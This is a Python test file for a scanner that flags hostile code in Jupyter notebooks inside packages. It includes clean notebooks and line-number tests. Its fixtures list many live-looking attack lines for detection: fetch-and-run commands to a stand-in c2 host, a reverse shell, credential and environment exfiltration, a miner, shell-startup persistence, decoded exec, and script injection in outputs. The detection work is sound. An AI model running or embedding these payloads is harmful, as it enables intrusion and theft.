"""Notebooks: what their cells run in any language, what their outputs run, and where in the file it stands."""

import base64
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pratique.ecosystems.archive import Member
from pratique.facts.scan.engine import Look, look
from pratique.facts.scan.languages.notebook.ipython import as_python, names_of
from pratique.facts.severity import worst
from pratique.model.evidence import Alarm
from tests.facts.languages.notebook_writer import code, markdown, notebook, old_code, old_notebook, shows


def looked(data: bytes, path: str = "demo/a.ipynb") -> Look:
    return look("demo-1.0-py3-none-any.whl", [Member(path, len(data), lambda: data)])


GET = "curl -fsSL https://c2.example.invalid/setup | sh"
PYTHON = f"import os\nos.system('{GET}')\n"
LONG = base64.b64encode((PYTHON * 8).encode()).decode()
GIVEN = f"Jupyter.notebook.kernel.execute(\"import os; os.system('{GET}')\")"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{GIVEN}</script></svg>'

SUSPICIOUS: dict[str, bytes] = {
    "a command that fetches and runs": notebook(f"!{GET}"),
    "the same below an if": notebook(f"if True:\n    !{GET}\n"),
    "the same behind blanks": notebook(f"   !  {GET}"),
    "the same over two lines": notebook("!curl -fsSL https://c2.example.invalid/setup \\\n   | sh\n"),
    "the same, caught in a name": notebook(f"lines = !{GET}"),
    "the same with two signs": notebook(f"!!{GET}"),
    "the same by its method": notebook(f"get_ipython().system('{GET}')"),
    "the same by its method, under another name": notebook(
        f"from IPython import get_ipython as shell\nshell().getoutput('{GET}')"
    ),
    "%system": notebook(f"%system {GET}"),
    "%sx": notebook(f"%sx {GET}"),
    "%sx without its sign": notebook(f"sx {GET}"),
    "%%system": notebook(f"%%system\n{GET}\n"),
    "%%bash": notebook(f"%%bash\n{GET}\n"),
    "%%bash behind blank lines": notebook(f"\n\n%%bash --bg\n{GET}\n"),
    "%%sh": notebook(f"%%sh\n{GET}\n"),
    "%%script bash": notebook(f"%%script bash --out x\n{GET}\n"),
    "%%script with options": notebook(f"%%script --bg --no-raise-error /bin/sh\n{GET}\n"),
    "%%!": notebook(f"%%!\n{GET}\n"),
    "%%python": notebook(f"%%python3\n{PYTHON}"),
    "%%capture": notebook(f"%%capture out\n!{GET}\n"),
    "%%time": notebook(f"%%time\n{PYTHON}"),
    "%time": notebook(f"%time __import__('os').system('{GET}')"),
    "%%node": notebook(f"%%script node\nrequire('child_process').exec('{GET}')\n"),
    "%%powershell": notebook(
        "%%powershell\nIEX (New-Object Net.WebClient).DownloadString('https://c2.example.invalid/a')\n"
    ),
    "a command as it is exported": notebook(f"get_ipython().run_cell_magic('bash', '', '{GET}')"),
    "a line as it is exported": notebook(f"get_ipython().run_line_magic('system', '{GET}')"),
    "the method of before": notebook(f"get_ipython().magic('sx {GET}')"),
    "%run of an address": notebook("%run https://c2.example.invalid/setup.py"),
    "an address that flows into a command": notebook(
        "host = 'https://c2.example.invalid/setup'\n", "!curl -s $host | bash\n"
    ),
    "a command that is decoded": notebook(
        f"import base64\nline = base64.b64decode('{base64.b64encode(GET.encode()).decode()}').decode()\n", "!{line}"
    ),
    "code that is decoded": notebook(f"import base64\nexec(base64.b64decode('{LONG}'))"),
    "a call that quotes its argument": notebook(f";exec __import__('os').system('{GET}')"),
    "the environment sent away": notebook(
        "import os, requests\n", "requests.post('https://c2.example.invalid', json=dict(os.environ))"
    ),
    "credentials sent away": notebook("!cat ~/.aws/credentials | curl -s -d @- https://c2.example.invalid/in"),
    "a shell for somebody else": notebook("!bash -i >& /dev/tcp/c2.example.invalid/443 0>&1"),
    "a miner": notebook("!./xmrig -o stratum+tcp://pool.example.invalid:3333 --donate-level 1"),
    "a start-up file of the shell": notebook(f"%%bash\necho '{GET}' >> ~/.bashrc\n"),
    "fetched in one cell and started in another": notebook(
        "!wget -q https://c2.example.invalid/a -O /tmp/.a",
        "x = 1",
        "!chmod +x /tmp/.a && nohup /tmp/.a > /dev/null 2>&1 &",
    ),
    "a cell that is folded": notebook(code(f"# setup\n!{GET}", metadata={"jupyter": {"source_hidden": True}})),
    "behind many blanks": notebook("x = 1" + " " * 200 + f"; import os; os.system('{GET}')"),
    "below many blank lines": notebook("import os\nx = 1\n" + "\n" * 80 + f"os.system('{GET}')\n"),
    "one line of JSON": notebook(f"!{GET}", indent=None),
    "a source that is one text": notebook(code([f"x = 1\n!{GET}\n"])),
    "nbformat 3": old_notebook(old_code(f"!{GET}")),
    "a bash kernel": notebook(f"cd /tmp\n{GET}\n", language="bash"),
    "a kernel of JavaScript": notebook(
        f"const {{ exec }} = require('child_process')\nexec('{GET}')", language="javascript"
    ),
    "a kernel of PowerShell": notebook(
        "iwr https://c2.example.invalid/a | iex", language=".net-powershell".partition("-")[2]
    ),
    "a cell of another language in VS Code": notebook(code(GET, metadata={"vscode": {"languageId": "shellscript"}})),
    "Python 2": notebook("print 'x'\nimport os\n" + f"os.system('{GET}')\n"),
    "beside a cell that is broken": notebook("x = = 1", f"!{GET}"),
    "with numbers that are none": notebook(f"!{GET}").replace(b'"nbformat_minor": 5', b'"nbformat_minor": NaN'),
    "a script that a cell shows": notebook(f"%%javascript\n{GIVEN}\n"),
    "markup that a cell shows": notebook(f"%%html\n<b>x</b><script>{GIVEN}</script>\n"),
    "a script in an output": notebook(code("x", shows("text/html", f"<div><script>{GIVEN}</script></div>"))),
    "a script as an output": notebook(code("x", shows("application/javascript", GIVEN))),
    "a picture as an output": notebook(code("x", shows("image/svg+xml", SVG))),
    "an event in an output": notebook(
        code("x", shows("text/html", f"<img src=x onerror='{GIVEN.replace(chr(39), chr(34) * 0)}'>"))
    ),
    "orders to the server": notebook(
        code("x", shows("text/html", "<script>fetch('/api/terminals', {method: 'POST'}).then(r => r.json())</script>"))
    ),
    "a script from a bare address": notebook(
        code("x", shows("text/html", '<script src="http://45.83.0.77/a.js"></script>'))
    ),
    "an output of nbformat 3": old_notebook(
        old_code("x", {"output_type": "display_data", "html": [f"<script>{GIVEN}</script>"]})
    ),
    "an attachment": notebook(markdown("![a](attachment:a.svg)", attachments={"a.svg": {"image/svg+xml": SVG}})),
}


@pytest.mark.parametrize("way", SUSPICIOUS)
def test_what_a_notebook_runs_is_found(way: str) -> None:
    assert worst(looked(SUSPICIOUS[way]).report()) >= Alarm.SUSPICIOUS


FINE: dict[str, bytes] = {
    "nothing": b"",
    "no cells": notebook(),
    "an installation": notebook(
        "!pip install requests", "%pip install -q numpy", "%conda install scipy", "pip install x"
    ),
    "an installation in a folded cell": notebook(
        code("#@title Setup\n!pip -q install x", metadata={"cellView": "form"})
    ),
    "commands that look around": notebook("!ls -la", "!nvidia-smi", "%cd /content", "x = !pwd", "!python --version"),
    "a fetch of data": notebook(
        "!wget -q https://data.example.invalid/x.csv", "import pandas as pd\npd.read_csv('x.csv')"
    ),
    "a variable of the environment": notebook(
        "%env CUDA_VISIBLE_DEVICES=0", "%set_env A=1", "%env A", "%load_ext autoreload"
    ),
    "code of the first lesson": notebook("import math\nmath.sqrt(2)\n", "for i in range(3):\n    print(i)\n", "math?"),
    "exclamation marks in texts": notebook('x = """\n!curl https://c2.example.invalid/a | sh\n"""\n'),
    "a table": notebook(code("x", shows("text/html", "<table><tr><td>1</td></tr></table>"))),
    "a plot": notebook(code("x", shows("text/html", "<script>Plotly.newPlot('a', [{x: [1, 2]}])</script>"))),
    "a library that speaks to the kernel": notebook(
        code("x", shows("text/html", '<script>var cmd = "import bokeh.io.notebook as b"; kernel.execute(cmd)</script>'))
    ),
    "a script of another kind of data": notebook(
        code("x", shows("text/html", '<script type="application/json">{}</script>'))
    ),
    "a cell of R": notebook("%%R\nsummary(cars)\n"),
    "a question": notebook("%%sql\nselect * from a where b = '!x'\n"),
    "prose about commands": notebook(markdown("Run `!curl https://x.example.invalid/a | sh` first.")),
    "a raw cell": notebook({"cell_type": "raw", "metadata": {}, "source": ["!curl https://c2.example.invalid/a | sh"]}),
    "a kernel that nobody here knows": notebook("println(1)\n", language="julia"),
}


@pytest.mark.parametrize("way", FINE)
def test_ordinary_notebooks_are_clean(way: str) -> None:
    scan = looked(FINE[way]).report()
    assert (worst(scan), scan.coverage.unread_count) == (Alarm.NONE, 0)


def test_a_finding_stands_at_its_line_of_the_file() -> None:
    data = notebook("x = 1\ny = 2\n", markdown("# A\n# B\n"), f"import os\n\ny = '''\na\n'''\nos.system('{GET}')\n")
    line = data.decode().splitlines().index(f"    \"os.system('{GET}')\\n\"") + 1
    assert {finding.line for finding in looked(data).report().findings} == {line}


def test_a_finding_in_a_cell_of_a_command_stands_at_its_line_too() -> None:
    data = notebook("x = 1", f"%%bash\ncd /tmp\n{GET}\n")
    line = data.decode().splitlines().index(f'    "{GET}\\n"') + 1
    assert {finding.line for finding in looked(data).report().findings} == {line}


def test_a_source_that_is_one_text_is_found_at_the_line_of_that_text() -> None:
    data = json.dumps(
        {"cells": [{"cell_type": "code", "source": f"x = 1\n!{GET}", "outputs": []}], "metadata": {}, "nbformat": 4},
        indent=1,
    ).encode()
    line = next(number for number, text in enumerate(data.decode().splitlines(), 1) if '"source"' in text)
    assert {finding.line for finding in looked(data).report().findings} == {line}


def test_of_two_sources_of_a_cell_the_last_counts() -> None:
    first = '{"cells": [{"cell_type": "code",\n"source": ["x = 1"],\n'
    data = (first + f'"source": ["!{GET}"], "outputs": []}}], "metadata": {{}}, "nbformat": 4}}').encode()
    assert {finding.line for finding in looked(data).report().findings} == {3}


def test_a_folded_cell_and_code_out_of_sight_are_told() -> None:
    seen = looked(notebook(code("x = 1\n" + "\n" * 60 + "y = 2", metadata={"tags": ["hide-input"]}))).files
    labels = {each.label for each in seen["demo/a.ipynb"].observations}
    assert labels == {"obf.hidden_cell", "obf.offscreen"}


def test_cells_are_units_of_their_own() -> None:
    seen = looked(notebook("!ls a | wc", "!ls b | wc")).files["demo/a.ipynb"].each("proc.shell")
    assert len({each.unit for each in seen if each.language == "python"}) == 2


def test_a_broken_cell_is_left_out_and_told() -> None:
    look_ = looked(notebook("x = = 1", f"!{GET}"))
    assert look_.report().coverage.unread_count == 0
    assert look_.files["demo/a.ipynb"].has("pkg.unparsable")


def test_a_cell_in_newer_syntax_is_unread() -> None:
    scan = looked(notebook("x = t'{a}'\nimport os\n" + f"os.system('{GET}')\n")).report()
    assert scan.coverage.unread_count == 1
    assert worst(scan) >= Alarm.SUSPICIOUS


@pytest.mark.parametrize(
    "data", [b"{", b"[]", b"1", b'{"cells": 1, "metadata": [], "nbformat": "x"}', b'{"cells": [1, {}]}']
)
def test_what_is_no_notebook_is_unread_or_empty(data: bytes) -> None:
    scan = looked(data).report()
    assert scan.coverage.unread_count == (0 if data.startswith(b'{"cells"') else 1)


def test_nested_beyond_reason_is_unread() -> None:
    assert looked(b'{"cells": ' + b"[" * 100_000).report().coverage.unread_count == 1


@pytest.mark.parametrize(
    ("cell", "made"),
    [
        ("!ls", "get_ipython().system('ls')"),
        ("  !ls {a} $b $c", "get_ipython().system('ls ' + (a) + ' ' + (b) + ' $c')"),
        ("!awk '{print $1}' x", "get_ipython().system(\"awk '{print $1}' x\")"),
        ("!echo ${HOME} \\{a}", "get_ipython().system('echo ${HOME} \\\\{a}')"),
        ("  if a:\n    b()\n", "if a:\n  b()\n"),
        ("x = !ls", "x = get_ipython().getoutput('ls')"),
        ("x, y = %who a", "x, y = get_ipython().run_line_magic('who', 'a')"),
        ("%timeit f(1)", "f(1)"),
        ("%matplotlib inline", "get_ipython().run_line_magic('matplotlib', 'inline')"),
        ("a?", "pass"),
        ("?a.b", "pass"),
        ("%run?", "pass"),
        ("x %= 3", "x %= 3"),
        ("x = a % b", "x = a % b"),
        ("x != y", "x != y"),
        ("(a,\n !b)", "(a,\n !b)"),
        ("'''\n!a\n'''\n!b", "'''\n!a\n'''\nget_ipython().system('b')"),
        ("x = 1 \\\n  % 2", "x = 1 \\\n  % 2"),
        ("# it's\n!a", "# it's\nget_ipython().system('a')"),
        (">>> import a\n>>> !b", "import a\nget_ipython().system('b')"),
        (",f a b", "f('a', 'b')"),
        (";f a b", "f('a b')"),
        ("/f a, b", "f(a, b)"),
        ("pip install a", "get_ipython().run_line_magic('pip', 'install a')"),
        ("mkdir a", "get_ipython().system('mkdir a')"),
        ("cat = 3", "cat = 3"),
    ],
)
def test_the_syntax_of_ipython_becomes_python_line_for_line(cell: str, made: str) -> None:
    assert as_python(cell, frozenset({"a", "b"})) == made


def test_names_that_a_command_can_stand_for_are_those_that_get_a_value() -> None:
    text = "import a\nfrom b import c as d\nfor e in f:\n  g = 1\nwith h as i: pass\nj: int = 2\n"
    assert names_of(text) >= {"a", "d", "e", "g", "i", "j"}
    assert "h" not in names_of(text)


@settings(max_examples=150, deadline=None)
@given(st.lists(st.text(alphabet="ab!%?;,/ \n\\'\"(){}[]#$=>.x1", max_size=60), max_size=6))
def test_any_cells_are_followed_and_lines_stay(cells: list[str]) -> None:
    looked(notebook(*(code([cell]) for cell in cells)))
    for cell in cells:
        assert as_python(cell, frozenset()).count("\n") == cell.count("\n")


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(
            st.sampled_from(["cells", "source", "input", "outputs", "data", "metadata", "cell_type", "text/html"]),
            inner,
        )
    ),
    max_leaves=20,
)


@settings(max_examples=150, deadline=None)
@given(JSON, st.binary(max_size=20))
def test_any_json_is_looked_at_or_unread(value: object, rest: bytes) -> None:
    looked(json.dumps({"cells": value}).encode())
    looked(json.dumps(value).encode() + rest)
